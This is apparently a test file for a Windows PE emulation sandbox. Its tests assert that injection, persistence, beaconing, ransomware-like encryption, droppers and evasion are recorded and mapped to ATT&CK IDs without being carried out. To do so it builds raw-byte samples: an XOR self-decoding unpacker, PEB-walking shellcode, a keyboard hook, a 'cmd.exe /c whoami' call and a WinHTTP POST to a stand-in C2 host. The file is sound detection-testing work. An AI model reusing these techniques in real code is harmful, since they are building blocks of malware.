// Windows x86-64 programs emulated from their TLS callbacks and entry point — small ones assembled here
// (test/helpers/engine/pe-program.ts), and the corpus's mingw builds — with every API answered by its handler:
// what they do to files, the registry, other processes and the network is recorded with the executable's
// call site (and never done), and every bound ends a run with its reason. Skips with a message without
// ../shared (the corpus cases) or Debian's libunicorn2.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { CORPUS } from '../../../../test/helpers/engine/disasm.js';
import {
  PE32_BASE,
  PE_DATA,
  PE_TEXT,
  peProgram,
  pe64Script,
  callSlot,
} from '../../../../test/helpers/engine/pe-program.js';
import { behavioursOf } from '../behaviours.js';
import { EmulationRefused } from '../events.js';
import { dynamicReport } from '../report.js';
import { runProgram } from '../run.js';
import { emulatorAvailable } from '../unicorn.js';
import { runWindowsPe } from './run-pe.js';

const NO_UNICORN = emulatorAvailable() ? false : 'libunicorn2 is not installed (apt-get install libunicorn2)';
const SAMPLES = join(CORPUS, 'bin', 'samples');
const NO_SAMPLES = NO_UNICORN || (existsSync(SAMPLES) ? false : `${SAMPLES} absent`);
const sample = (name: string) => readFileSync(join(SAMPLES, `sample-${name}_win-x86_64_mingw-gcc12_O2_stripped.exe`));
const kinds = (run: { events: { kind: string }[] }) => run.events.map((e) => e.kind);

test(
  'injection into a created process: each step recorded at its call, the written code kept as a dump',
  { skip: NO_SAMPLES },
  () => {
    const run = runWindowsPe(sample('win_injector'), { argv: ['win_injector.exe', 'inject'] });
    assert.deepEqual(run.stop, { reason: 'exit', detail: 'exit(0)' });
    assert.deepEqual(kinds(run), [
      'process-create',
      'memory-alloc',
      'memory-write',
      'thread-create',
      'process-terminate',
    ]);
    const pid = run.events[0]!.detail.pid;
    for (const e of run.events) {
      assert.equal(e.detail.path, 'notepad.exe');
      // Each site is a call instruction of the sample's own code.
      assert.ok(e.site > 0x1_4000_1000 && e.site < 0x1_4001_0000, `${e.kind} at 0x${e.site.toString(16)}`);
    }
    assert.ok(run.events.every((e) => e.detail.pid === pid));
    assert.deepEqual(
      run.dumps.map((d) => [d.process, d.why, [...d.bytes.subarray(0, 1)]]),
      [['notepad.exe', 'injected', [0xc3]]],
    );
    const ids = behavioursOf(run.events).flatMap((b) => b.attack.map((a) => a.id));
    assert.deepEqual(ids.sort(), ['T1055.002', 'T1106']);
    assert.equal(run.output, 'inject: ok\n');
  },
);

test(
  'registry persistence, URL download and a beacon: keys, DNS, requests and host discovery',
  { skip: NO_SAMPLES },
  () => {
    const persist = runWindowsPe(sample('win_injector'), { argv: ['win_injector.exe', 'persist'] });
    assert.deepEqual(
      persist.events.map((e) => [e.kind, e.detail.path, e.detail.value]),
      [
        ['registry-create', 'HKCU\\Software\\CorpusDemo', undefined],
        ['registry-set', 'HKCU\\Software\\CorpusDemo\\CorpusDemo', 'C:\\Users\\Public\\agent.exe --quiet'],
      ],
    );
    const fetch = runWindowsPe(sample('win_injector'), { argv: ['win_injector.exe', 'fetch'] });
    assert.deepEqual(
      fetch.events.map((e) => [e.kind, e.detail.host, e.detail.path ?? e.detail.answer]),
      [
        ['dns-query', 'downloads.example.org', '192.0.2.10'],
        ['http-request', 'downloads.example.org', '/update/agent.dat'],
      ],
    );
    const beacon = runWindowsPe(sample('net_beacon'), { argv: ['net_beacon.exe', '198.51.100.23', '8080'] });
    assert.deepEqual(
      beacon.events.map((e) => [e.kind, e.api, e.detail.argument ?? e.detail.address ?? e.detail.path ?? null]),
      [
        ['library-call', 'getenv', 'USER'],
        ['library-call', 'getenv', 'USERNAME'],
        ['library-call', 'gethostname', null],
        ['connect', 'connect', '198.51.100.23'],
        ['http-request', 'send', '/gate.php'],
      ],
    );
    assert.match(beacon.output, /^gate http:\/\/update\.example\.com\/gate\.php/);
  },
);

test(
  'a file encrypted beside its original, and a ransom note: the files are there afterwards',
  { skip: NO_SAMPLES },
  () => {
    const input = 'C:\\Users\\user\\Documents\\q3.xlsx';
    const plain = Buffer.from('quarterly figures: 1.2M revenue\n');
    const run = runWindowsPe(sample('file_crypt'), {
      argv: ['file_crypt.exe', input, `${input}.enc`],
      files: new Map([[input, plain]]),
    });
    assert.deepEqual(run.stop, { reason: 'exit', detail: 'exit(0)' });
    const encrypted = run.files.get(`${input}.enc`)!;
    assert.equal(encrypted.length, plain.length);
    assert.notDeepEqual(Buffer.from(encrypted), plain);
    assert.match(Buffer.from(run.files.get(`${input}.enc.README.txt`)!).toString(), /file_crypt demo/);
    assert.deepEqual(
      behavioursOf(run.events).map((b) => b.attack[0]!.id),
      ['T1486'],
    );
  },
);

test(
  'the corpus drivers, 32- and 64-bit, run to their end on the C runtime and file mappings',
  { skip: NO_UNICORN || (existsSync(CORPUS) ? false : `${CORPUS} absent`) },
  () => {
    for (const cpu of ['x86_64', 'i386']) {
      const driver = (name: string) =>
        readFileSync(join(CORPUS, 'bin', name.split('-')[0]!, `${name}_win-${cpu}_mingw-gcc12_O2.exe`));
      const lmdb = runWindowsPe(driver('lmdb-0.9.29'), { argv: ['lmdb.exe'] });
      // LMDB writes its pages with WriteFile and reads them back through a read-only mapping of the same file.
      assert.equal(lmdb.output, 'LMDB 0.9.29: (March 16, 2021): 32 records\n', cpu);
      const sqlite = runWindowsPe(driver('sqlite-3.50.4'), { argv: ['sqlite.exe'] });
      assert.deepEqual(sqlite.stop, { reason: 'exit', detail: 'exit(0)' }, cpu);
      assert.match(sqlite.output, /^sqlite 3\.50\.4\n.*printf\('%\.2f', v\)=22\.50\n/s, cpu);
      const lz4 = runWindowsPe(driver('lz4-1.10.0'), { argv: ['lz4.exe'] });
      assert.match(lz4.output, /roundtrip=ok/, cpu);
    }
  },
);

test(
  '32-bit: a stdcall API pops its arguments; one without a handler stops the run, named, where it was called',
  { skip: NO_UNICORN },
  () => {
    const program = (api: string) =>
      peProgram(
        { 'kernel32.dll': [api, 'ExitProcess'] },
        (slot) => {
          // push "abcd"; call [api]; push eax; call [ExitProcess]; "abcd"
          const at = PE32_BASE + 0x1000 + 18;
          const code = [0x68, at & 0xff, (at >> 8) & 0xff, (at >> 16) & 0xff, at >>> 24, ...callSlot(0, slot(api), 32)];
          code.push(0x50, ...callSlot(0, slot('ExitProcess'), 32));
          return Uint8Array.from([...code, ...Buffer.from('abcd\0')]);
        },
        32,
      );
    // lstrlenA pops its one argument; ExitProcess then finds its own where it should.
    assert.deepEqual(runWindowsPe(program('lstrlenA'), { argv: ['len.exe'] }).stop, {
      reason: 'exit',
      detail: 'ExitProcess(4)',
    });
    const run = runWindowsPe(program('FlsAlloc'), { argv: ['fls.exe'] });
    assert.deepEqual(run.stop, {
      reason: 'unsupported',
      detail: `kernel32.dll!FlsAlloc called at 0x${(PE32_BASE + 0x1005).toString(16)}`,
    });
    assert.deepEqual(
      run.events.map((e) => [e.kind, e.detail.name, e.site]),
      [['unsupported', 'kernel32.dll!FlsAlloc', PE32_BASE + 0x1005]],
    );
  },
);

test(
  'an API without a handler is recorded with its name and call site, fails, and the run goes on',
  { skip: NO_UNICORN },
  () => {
    const program = pe64Script({ 'kernel32.dll': ['FlsAlloc'] }, [{ api: 'FlsAlloc', args: [0] }], 5);
    const run = runWindowsPe(program, { argv: ['fls.exe'] });
    assert.deepEqual(run.stop, { reason: 'exit', detail: 'ExitProcess(5)' });
    assert.deepEqual(
      run.events.map((e) => [e.kind, e.detail.name]),
      [['unsupported', 'kernel32.dll!FlsAlloc']],
    );
    // The call is the program's first instruction after its 4-byte frame set-up and one 10-byte argument.
    assert.equal(run.events[0]!.site, PE_TEXT + 4 + 10);
  },
);

test(
  'bounds: a spin ends on time or instructions, a 10 GB allocation is refused, API hammering is counted once',
  { skip: NO_UNICORN },
  () => {
    const spin = peProgram({ 'kernel32.dll': ['ExitProcess'] }, () => Uint8Array.of(0xeb, 0xfe));
    const t0 = performance.now();
    assert.equal(runWindowsPe(spin, { argv: ['spin.exe'], limits: { wallMs: 300 } }).stop.reason, 'time');
    assert.ok(performance.now() - t0 < 3000);
    assert.deepEqual(runWindowsPe(spin, { argv: ['spin.exe'], limits: { instructions: 100_000 } }).stop, {
      reason: 'instructions',
      detail: '100000 instructions',
    });

    const huge = pe64Script(
      { 'kernel32.dll': ['VirtualAlloc'] },
      [{ api: 'VirtualAlloc', args: [0, 10n << 30n, 0x3000, 4], keep: 0 }],
      0,
    );
    const refused = runWindowsPe(huge, { argv: ['huge.exe'] });
    assert.equal(refused.stop.reason, 'exit');
    assert.deepEqual(
      refused.events.map((e) => [e.kind, e.detail.bytes]),
      [['memory-refused', 10 * 2 ** 30]],
    );

    // GetTickCount from one place forever: the run goes on past the API-call budget, bounded by instructions.
    const hammer = pe64Script({ 'kernel32.dll': ['GetTickCount'] }, [{ api: 'GetTickCount', args: [], forever: true }]);
    const run = runWindowsPe(hammer, { argv: ['hammer.exe'], limits: { apiCalls: 2000, instructions: 200_000 } });
    assert.equal(run.stop.reason, 'instructions');
    const hammering = run.events.filter((e) => e.kind === 'api-hammering');
    assert.equal(hammering.length, 1);
    assert.equal(hammering[0]!.detail.name, 'kernel32.dll!GetTickCount');
    assert.ok(Number(hammering[0]!.detail.count) > 5000, String(hammering[0]!.detail.count));
    assert.ok(run.calls < 2000);
    assert.deepEqual(
      behavioursOf(run.events).map((b) => b.attack[0]!.id),
      ['T1497.003'],
    );
    // Without a repeat to forgive, the budget stops the run.
    const calls = pe64Script({ 'kernel32.dll': ['GetTickCount'] }, [{ api: 'GetTickCount', args: [], forever: true }]);
    assert.equal(runWindowsPe(calls, { argv: ['calls.exe'], limits: { apiCalls: 500 } }).stop.reason, 'api-calls');
  },
);

test('a self-decoding unpacker: the code it runs from new memory is recorded and dumped', { skip: NO_UNICORN }, () => {
  const program = peProgram({ 'kernel32.dll': ['VirtualAlloc', 'ExitProcess'] }, (slot) => {
    // Payload: ExitProcess(42) through the import slot's absolute address.
    const exitSlot = BigInt(slot('ExitProcess'));
    const payload = [
      0xb9,
      42,
      0,
      0,
      0,
      0x48,
      0xb8,
      ...Array.from({ length: 8 }, (_, i) => Number((exitSlot >> BigInt(8 * i)) & 0xffn)),
      0xff,
      0x10,
    ];
    const code = [
      ...[
        0x48, 0x83, 0xec, 0x28, 0x31, 0xc9, 0xba, 0, 0x10, 0, 0, 0x41, 0xb8, 0, 0x30, 0, 0, 0x41, 0xb9, 0x40, 0, 0, 0,
      ],
    ];
    code.push(...callSlot(PE_TEXT + code.length, slot('VirtualAlloc')));
    // mov rbx, rax; mov rdi, rax; lea rsi, [rip+encoded]; mov ecx, n; L: lodsb; xor al, 0x5a; stosb; loop L; jmp rbx
    code.push(0x48, 0x89, 0xc3, 0x48, 0x89, 0xc7);
    const lea = code.length;
    code.push(
      0x48,
      0x8d,
      0x35,
      0,
      0,
      0,
      0,
      0xb9,
      payload.length,
      0,
      0,
      0,
      0xac,
      0x34,
      0x5a,
      0xaa,
      0xe2,
      0xfa,
      0xff,
      0xe3,
    );
    code[lea + 3] = code.length - (lea + 7);
    return Uint8Array.from([...code, ...payload.map((b) => b ^ 0x5a)]);
  });
  const run = runWindowsPe(program, { argv: ['packed.exe'] });
  assert.deepEqual(run.stop, { reason: 'exit', detail: 'ExitProcess(42)' });
  assert.deepEqual(kinds(run), ['memory-execute']);
  assert.equal(run.dumps.length, 1);
  assert.deepEqual([...run.dumps[0]!.bytes.subarray(0, 5)], [0xb9, 42, 0, 0, 0]);
  const report = dynamicReport(run, ['packed.exe']);
  assert.deepEqual(
    report.dumps.map((d) => [d.why, d.type, d.size]),
    [['executed', 'shellcode', 0x1000]],
  );
  assert.ok(report.behaviours.some((b) => b.attack[0]!.id === 'T1027.002'));
});

test(
  'shellcode finds kernel32 through the PEB and ExitProcess in its export table, and calls it',
  { skip: NO_UNICORN },
  () => {
    // The classic walk: gs:[0x60] → PEB.Ldr → InMemoryOrderModuleList (the program, ntdll, kernel32) → DllBase
    // → export directory → the name "ExitProcess" → its ordinal → its function; then ExitProcess(77).
    const program = peProgram({}, () => {
      const head = [
        ...[0x65, 0x48, 0x8b, 0x04, 0x25, 0x60, 0, 0, 0],
        ...[0x48, 0x8b, 0x40, 0x18, 0x48, 0x8b, 0x40, 0x20, 0x48, 0x8b, 0x00, 0x48, 0x8b, 0x00],
        ...[0x48, 0x8b, 0x58, 0x20, 0x8b, 0x43, 0x3c, 0x8b, 0x84, 0x03, 0x88, 0, 0, 0, 0x48, 0x8d, 0x34, 0x03],
        ...[0x8b, 0x4e, 0x18, 0x8b, 0x56, 0x20, 0x48, 0x01, 0xda],
      ];
      const loop = [
        ...[0xff, 0xc9, 0x8b, 0x04, 0x8a, 0x48, 0x8d, 0x3c, 0x03],
        ...[0x48, 0xb8, ...Buffer.from('ExitProc'), 0x48, 0x39, 0x07],
      ];
      const again = (from: number) => [0x75, (0x100 - (from + 2)) & 0xff];
      const body = [...loop, ...again(loop.length)];
      const rest = [0x81, 0x7f, 0x08, ...Buffer.from('ess\0')];
      body.push(...rest, ...again(body.length + rest.length));
      const tail = [
        ...[0x8b, 0x56, 0x24, 0x48, 0x01, 0xda, 0x0f, 0xb7, 0x0c, 0x4a],
        ...[0x8b, 0x56, 0x1c, 0x48, 0x01, 0xda, 0x8b, 0x04, 0x8a, 0x48, 0x01, 0xd8],
        ...[0xb9, 77, 0, 0, 0, 0x48, 0x83, 0xec, 0x28, 0xff, 0xd0],
      ];
      return Uint8Array.from([...head, ...body, ...tail]);
    });
    const run = runWindowsPe(program, { argv: ['shellcode.exe'] });
    assert.deepEqual(run.stop, { reason: 'exit', detail: 'ExitProcess(77)' });
  },
);

test('a registry query, and a thread run to its end before the wait on it returns', { skip: NO_UNICORN }, () => {
  const program = pe64Script(
    { 'advapi32.dll': ['RegOpenKeyExA', 'RegQueryValueExA'], 'kernel32.dll': ['CreateThread', 'WaitForSingleObject'] },
    [
      // HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion's ProductName into the data page at 0x100.
      {
        api: 'RegOpenKeyExA',
        args: [0xffff_ffff_8000_0002n, 'SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion', 0, 0x20019, { at: 0 }],
      },
      { api: 'RegQueryValueExA', args: [{ load: 0 }, 'ProductName', 0, 0, { at: 0x100 }, { at: 0x40 }] },
      // A thread (its code in the data page) given 7, which it stores for the exit code.
      { api: 'CreateThread', args: [0, 0, PE_DATA + 0x200, 7, 0, 0], keep: 8 },
      { api: 'WaitForSingleObject', args: [{ load: 8 }, 0xffff_ffff] },
    ],
    { load: 0x300 },
  );
  const bytes = Buffer.from(program);
  // The thread's code: mov [rip+…], ecx (its parameter, 7) to data+0x300; ret.
  const at = 0x3000 + 0x200;
  bytes.set([0x89, 0x0d, 0xfa, 0x00, 0x00, 0x00, 0xc3], at);
  // Room for the query's size: 64 bytes.
  bytes.writeUInt32LE(64, 0x3040);
  const run = runWindowsPe(bytes, { argv: ['reg.exe'] });
  assert.deepEqual(run.stop, { reason: 'exit', detail: 'ExitProcess(7)' });
  assert.deepEqual(
    run.events.map((e) => [e.kind, e.detail.path]),
    [
      ['registry-open', 'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion'],
      ['registry-query', 'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\ProductName'],
    ],
  );
});

test(
  'user32, shell32, WinHTTP, crypt32 and the UCRT: a keylogger, a shell command, a beacon, a decoded blob',
  { skip: NO_UNICORN },
  () => {
    const wide = (text: string) => Buffer.from(`${text}\0`, 'utf16le');
    const program = Buffer.from(
      pe64Script(
        {
          'user32.dll': ['SetWindowsHookExA', 'GetForegroundWindow', 'GetWindowTextA'],
          'shell32.dll': ['ShellExecuteA'],
          'winhttp.dll': ['WinHttpOpen', 'WinHttpConnect', 'WinHttpOpenRequest', 'WinHttpSendRequest'],
          'crypt32.dll': ['CryptStringToBinaryA'],
          'api-ms-win-crt-stdio-l1-1-0.dll': ['__acrt_iob_func', '__stdio_common_vfprintf'],
        },
        [
          { api: 'SetWindowsHookExA', args: [13, PE_TEXT, 0, 0] },
          { api: 'GetForegroundWindow', args: [], keep: 0x10 },
          { api: 'GetWindowTextA', args: [{ load: 0x10 }, { at: 0x500 }, 64] },
          { api: 'ShellExecuteA', args: [0, 'open', 'cmd.exe', '/c whoami', 0, 0] },
          { api: 'WinHttpOpen', args: [0, 0, 0, 0, 0], keep: 0x18 },
          { api: 'WinHttpConnect', args: [{ load: 0x18 }, { at: 0x300 }, 443, 0], keep: 0x20 },
          { api: 'WinHttpOpenRequest', args: [{ load: 0x20 }, { at: 0x340 }, { at: 0x360 }, 0, 0, 0, 0], keep: 0x28 },
          { api: 'WinHttpSendRequest', args: [{ load: 0x28 }, 0, 0, 0, 0, 0, 0] },
          { api: 'CryptStringToBinaryA', args: ['aGVsbG8=', 0, 1, { at: 0x400 }, { at: 0x480 }, 0, 0] },
          { api: '__acrt_iob_func', args: [1], keep: 0x30 },
          { api: '__stdio_common_vfprintf', args: [0, { load: 0x30 }, 'x=%d %s %s\n', 0, { at: 0x100 }] },
        ],
      ),
    );
    // The data page: a va_list (42, then pointers to "hi" and to the decoded bytes), wide strings, a size.
    const data = 0x3000;
    program.writeBigUInt64LE(42n, data + 0x100);
    program.writeBigUInt64LE(BigInt(PE_DATA + 0x200), data + 0x108);
    program.writeBigUInt64LE(BigInt(PE_DATA + 0x400), data + 0x110);
    program.write('hi\0', data + 0x200, 'latin1');
    program.set(wide('c2.example.net'), data + 0x300);
    program.set(wide('POST'), data + 0x340);
    program.set(wide('/gate'), data + 0x360);
    program.writeUInt32LE(63, data + 0x480);
    const run = runWindowsPe(program, { argv: ['mixed.exe'] });
    assert.deepEqual(run.stop, { reason: 'exit', detail: 'ExitProcess(0)' });
    assert.equal(run.output, 'x=42 hi hello\n');
    const seen = run.events
      .filter((e) => e.kind !== 'library-call')
      .map((e) => `${e.kind} ${e.detail.host ?? e.detail.args ?? ''} ${e.detail.path ?? ''}`);
    assert.deepEqual(seen, [
      'process-create cmd.exe /c whoami cmd.exe',
      'dns-query c2.example.net ',
      'http-request c2.example.net /gate',
    ]);
    const ids = behavioursOf(run.events)
      .flatMap((b) => b.attack.map((a) => a.id))
      .sort();
    assert.deepEqual(ids, ['T1010', 'T1033', 'T1056.001', 'T1059.003', 'T1071.001', 'T1140']);
  },
);

test(
  'a program the sample drops and starts runs in turn, as its child, its file kept as a dump',
  { skip: NO_UNICORN },
  () => {
    // The second stage creates a registry key; the first copies it out of its hiding place and starts it.
    const stage2 = pe64Script(
      { 'advapi32.dll': ['RegCreateKeyExA'] },
      [{ api: 'RegCreateKeyExA', args: [0xffff_ffff_8000_0001n, 'Software\\Stage2', 0, 0, 0, 2, 0, { at: 0 }, 0] }],
      5,
    );
    const dropped = 'C:\\Users\\user\\AppData\\Roaming\\svc.exe';
    const stage1 = pe64Script({ 'kernel32.dll': ['CopyFileA', 'CreateProcessA'] }, [
      { api: 'CopyFileA', args: ['C:\\Users\\user\\AppData\\Local\\Temp\\cache.bin', dropped, 0] },
      { api: 'CreateProcessA', args: [0, `${dropped} --service`, 0, 0, 0, 0, 0, 0, { at: 0x100 }, { at: 0x200 }] },
    ]);
    const run = runWindowsPe(stage1, {
      argv: ['setup.exe'],
      files: new Map([['C:\\Users\\user\\AppData\\Local\\Temp\\cache.bin', stage2]]),
    });
    assert.deepEqual(run.stop, { reason: 'exit', detail: 'ExitProcess(0)' });
    assert.deepEqual(
      run.events.map((e) => [e.pid, e.kind, e.detail.path]),
      [
        [1000, 'file-read', 'C:\\Users\\user\\AppData\\Local\\Temp\\cache.bin'],
        [1000, 'file-write', dropped],
        [1000, 'process-create', `${dropped}`],
        [1008, 'registry-create', 'HKCU\\Software\\Stage2'],
      ],
    );
    const report = dynamicReport(run, ['setup.exe']);
    assert.deepEqual(
      report.processes.map((p) => [p.pid, p.parent, p.path, p.args]),
      [
        [1000, null, 'setup.exe', ['setup.exe']],
        [1008, 1000, dropped, [dropped, '--service']],
      ],
    );
    assert.deepEqual(
      report.dumps.map((d) => [d.why, d.type, d.path]),
      [['dropped', 'PE', dropped]],
    );
  },
);

test('a PE that cannot be loaded, or is for another CPU, is refused with the reason', { skip: NO_UNICORN }, () => {
  const program = Buffer.from(pe64Script({}, []));
  program.writeUInt32LE(0xffff_ffff, 0x3c);
  assert.throws(() => runProgram(program, { argv: ['broken.exe'] }), EmulationRefused);
  const arm64 = Buffer.from(pe64Script({}, []));
  arm64.writeUInt16LE(0xaa64, 0x84);
  assert.throws(() => runProgram(arm64, { argv: ['arm64.exe'] }), /machine type 0xaa64/);
});
